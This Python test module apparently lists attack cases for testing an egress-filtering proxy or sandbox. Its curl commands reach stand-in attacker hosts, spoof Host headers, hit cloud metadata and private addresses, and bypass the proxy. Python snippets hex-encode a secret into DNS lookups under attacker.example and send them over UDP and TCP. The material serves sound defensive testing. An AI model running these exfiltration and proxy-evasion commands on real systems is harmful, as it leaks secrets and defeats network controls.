"""All attacks: secrets in requests, hosts that nobody allowed, names that carry data, ways past the proxy, keys."""

from __future__ import annotations

from tests.attacks.escape.attack import NETWORK, VALUE, Attack, curl, python
from tests.attacks.escape.attacks_secrets import forms, places, websockets
from tests.attacks.escape.bottles import GENERIC_NAME
from tests.attacks.escape.fakes import EVIL, METADATA, OTHER_PORT, PUBLIC_DNS

HEX = VALUE.hex()[:60]
KEY = "attackers-own-key-" + "71842"


def _hosts() -> list[Attack]:
    """Places that no route names, and names that lead to places which no route may reach."""
    unknown = ("routes", "dialer")
    literal = ("literals", *unknown)
    out = [
        Attack("unknown host", curl("https://evil.example/out"), (b"evil: GET /out",), unknown),
        Attack("unknown host in clear", curl("http://evil.example/out"), (b"evil: GET /out",), unknown),
        Attack("IP literal", curl(f"http://{EVIL}/out"), (b"evil: GET /out",), literal),
        Attack("IP literal as a number", curl(f"http://{_number(EVIL)}/out"), (b"evil: GET /out",), literal),
        Attack(
            "IP literal with an allowed Host",
            curl("-H 'Host: allowed.example'", f"http://{EVIL}/out"),
            (b"evil: GET /out Host: allowed.example",),
            ("spoofed", *literal),
        ),
        Attack(
            "IP literal behind an allowed TLS name",
            curl("-k", f"--connect-to allowed.example:443:{EVIL}:443", "https://allowed.example/out"),
            (b"evil: GET /out",),
            ("spoofed", *literal),
        ),
        Attack(
            "another Host at an allowed host",
            curl("-H 'Host: evil.example'", "https://allowed.example/out"),
            (b"good: GET /out Host: evil.example",),
            ("spoofed",),
        ),
        Attack(
            "another port",
            curl(f"https://allowed.example:{OTHER_PORT}/out"),
            (b"good other port: GET /out",),
            ("ports", "dialer"),
            said=("403",),
        ),
        Attack(
            "another port in clear",
            curl("-k", "-p", f"http://allowed.example:{OTHER_PORT}/out"),
            (b"good other port: connected",),
            ("ports", "dialer"),
            said=("403",),
        ),
        Attack(
            "metadata by its address",
            curl(f"http://{METADATA}/latest/meta-data/"),
            (b"metadata: GET",),
            ("addresses", *literal),
        ),
    ]
    for name, where in (("metadata", "metadata"), ("loop", "loopback"), ("inner", "inner")):
        script = curl(f"http://{name}.example/out")
        out.append(
            Attack(
                f"an allowed name that leads to {where}",
                script,
                (f"{where}: GET /out".encode(),),
                ("addresses",),
                said=("egress:", "address of", "refused"),
                looks_up=True,
            )
        )
    push = "git init -q p; cd p; git -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m x; "
    push = f"cd $(mktemp -d); {push}git push https://allowed.example/repo.git HEAD:refs/heads/main 2>&1"
    out.append(Attack("git push over HTTPS", push, (b"service=git-receive-pack",), ("push",), said=("403",)))
    return out


def _number(address: str) -> int:
    return int.from_bytes(bytes(int(part) for part in address.split(".")))


def _names() -> list[Attack]:
    """The secret in a name that somebody looks up."""
    query = "q = b'ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l for l in name.split(b'.'))"
    ask = "import socket, struct\nname = (S.encode().hex()[:60] + '.attacker.example').encode()\n"
    ask += query + " + b'\\0\\0\\1\\0\\1'\n"
    udp = ask + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\n"
    udp += "s.sendto(q, ('{}', 53))\nprint(s.recv(512))"
    tcp = (
        ask
        + "s = socket.create_connection(('{}', 53), 2)\ns.sendall(struct.pack('>H', len(q)) + q)\nprint(s.recv(512))"
    )
    label = f"$(printf %s \"${GENERIC_NAME}\" | od -An -tx1 | tr -d ' \\n' | head -c 60)"
    default = "import socket\nprint(socket.getaddrinfo(S.encode().hex()[:60] + '.attacker.example', 443))"
    mark = (b"resolver: " + HEX.encode() + b".",)
    out = [
        Attack("name by the proxy", curl(f"https://{label}.attacker.example/"), mark, ("routes", "dialer", "dlp")),
        Attack("name below a wildcard", curl(f"https://{label}.wild.example/"), mark, ("dlp", "labels")),
        Attack("default resolver", python(default), mark, (NETWORK,), said=("gaierror",)),
        Attack(
            "default resolver by getent",
            f"getent hosts {label}.attacker.example; echo said $?",
            mark,
            (NETWORK,),
            said=("said 2",),
        ),
    ]
    for address, where in ((PUBLIC_DNS, "a public resolver"), ("127.0.0.1", "the host's resolver")):
        out += [
            Attack(f"{kind} to {where}", python(code.format(address)), mark, (NETWORK,), said=("Error",))
            for kind, code in (("UDP", udp), ("TCP", tcp))
        ]
    return out


def _direct() -> list[Attack]:
    """Without the proxy."""
    places = {
        "a host": (f"http://{EVIL}/out", b"evil: GET /out"),
        "the host's loopback": (f"http://127.0.0.1:{OTHER_PORT}/out", b"loopback other port: connected"),
        "a private network": ("http://10.9.9.9/out", b"inner: GET /out"),
        "metadata": (f"http://{METADATA}/latest", b"metadata: GET /latest"),
    }
    return [
        Attack(f"directly to {name}", curl("--noproxy '*'", url), (mark,), (NETWORK,), said=("curl: (7)",))
        for name, (url, mark) in places.items()
    ]


def _credentials() -> list[Attack]:
    """A key of the attacker's own account, at a host that gets the bottle's: what it stores there is his to read."""
    url = "https://api.example/v1"
    mark = (KEY.encode(),)
    passing = {
        "header": f"-H 'X-Api-Key: {KEY}' {url}",
        "Authorization": f"-H 'Authorization: Bearer {KEY}' {url}",
        "cookie": f"-b 'session={KEY}' {url}",
    }
    refused = {"query": f"'{url}?api_key={KEY}'", "form": f"-d 'access_token={KEY}' {url}"}
    out = [
        Attack(f"another key in the {name}", curl(words), mark, ("credentials",), said=("200",), quiet=False)
        for name, words in passing.items()
    ]
    out += [Attack(f"another key in the {n}", curl(words), mark, ("credentials",)) for n, words in refused.items()]
    return out


ATTACKS = (*_hosts(), *places(), *forms(), *websockets(), *_names(), *_direct(), *_credentials())
